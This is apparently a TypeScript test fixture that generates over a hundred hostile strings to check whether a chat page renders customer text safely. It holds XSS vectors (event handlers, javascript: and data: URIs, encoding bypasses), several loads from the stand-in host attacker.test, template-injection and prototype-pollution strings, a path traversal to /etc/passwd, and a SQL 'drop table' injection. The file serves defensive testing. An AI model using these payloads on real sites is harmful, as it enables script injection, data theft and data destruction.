/** A call that a script of a payload makes: the page has it, and counts its calls. */
const CALL = 'window.hacked?.(1)'

const events = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbegin',
]
const elements = [
  ...['<img src=x {}>', '<svg {}>', '<body {}>', '<iframe src="javascript:!" {}></iframe>', '<input autofocus {}>'],
  ...['<details open {}>', '<video><source {}></video>', '<audio src=x {}>', '<math><mtext {}>', '<marquee {}>'],
]

const others = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=http://attacker.test/x.js></SCRIPT>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>here</text></a></svg>`,
  `<a href="javascript:${CALL}">here</a>`,
  `<a href=" java\tscript:${CALL}">here</a>`,
  `<form action="javascript:${CALL}"><button>here</button></form>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<link rel=stylesheet href=http://attacker.test/x.css>`,
  `<style>@import 'http://attacker.test/x.css';</style>`,
  `<div style="background:url(http://attacker.test/pixel)">`,
  `<img src=http://attacker.test/pixel.png>`,
  `<meta http-equiv=refresh content="0;url=http://attacker.test/">`,
  `<base href=http://attacker.test/>`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}//`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `https://example.com/"onmouseover="${CALL}`,
  `https://example.com/<img src=x onerror=${CALL}>`,
  `https://user:password@attacker.test/path`,
  `http://[::1]:1/ and //attacker.test/x and www.attacker.test`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `{"__proto__":{"polluted":true}}`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<template><script>${CALL}</script></template>`,
  `<x contenteditable onblur=${CALL}>lose focus</x>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  '\u202Egnp.exe',
  '\u202Etxt\u202C and \u2067isolated\u2069 and \u200F\u200Emarks',
  'Right to left: \u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627 \u202E\u202E\u202E\u202Eend',
  `Z${'\u0300\u0316\u0334\u0489'.repeat(60)}algo ${'e\u0301\u0316\u0334\u0489'.repeat(40)}`,
  '\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67'.repeat(30),
  '\uFDFD'.repeat(20),
  'nul \u0001 \u001F \u007F \u0085 and \uFEFF\u200B\u2060 nothing',
  'lone \uD800 surrogate',
  '../../etc/passwd',
  'C:\\Windows\\System32\\x.exe',
  `"; drop table parley_messages; --`,
]

/** More than a hundred texts that attack a page, as a customer can write them. */
export const hostileTexts: readonly string[] = [
  ...elements.flatMap((element) => events.map((event) => element.replace('{}', `${event}=${CALL}`))),
  ...others,
]

/** Texts that attack the layout, longer than a channel carries. */
export const longTexts: readonly string[] = ['W'.repeat(64_000), '\u{1F600}'.repeat(10_000), `${'a/'.repeat(8000)}end`]
